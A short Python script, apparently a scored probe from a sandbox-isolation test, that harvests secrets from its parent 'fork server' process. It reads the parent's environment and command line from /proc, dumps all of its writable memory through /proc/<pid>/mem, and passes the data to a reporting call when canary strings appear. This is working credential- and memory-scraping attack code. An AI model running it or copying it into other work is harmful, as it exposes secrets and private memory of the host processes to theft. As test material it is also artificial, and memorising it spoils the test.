"""A program that looks for secrets in the fork server.

earns = 5.0
"""

import os

parent, found = os.getppid(), b""
for name in ("environ", "cmdline"):
    try:
        found += open(f"/proc/{parent}/{name}", "rb").read()
    except OSError:
        pass
try:
    for line in open(f"/proc/{parent}/maps"):
        place, rights = line.split()[:2]
        start, stop = (int(number, 16) for number in place.split("-"))
        if "w" in rights:
            with open(f"/proc/{parent}/mem", "rb") as memory:
                memory.seek(start)
                try:
                    found += memory.read(stop - start)
                except OSError:
                    continue
except OSError:
    pass
if b"canary-" + b"memory" in found or b"canary-" + b"token" in found:
    tell(found)
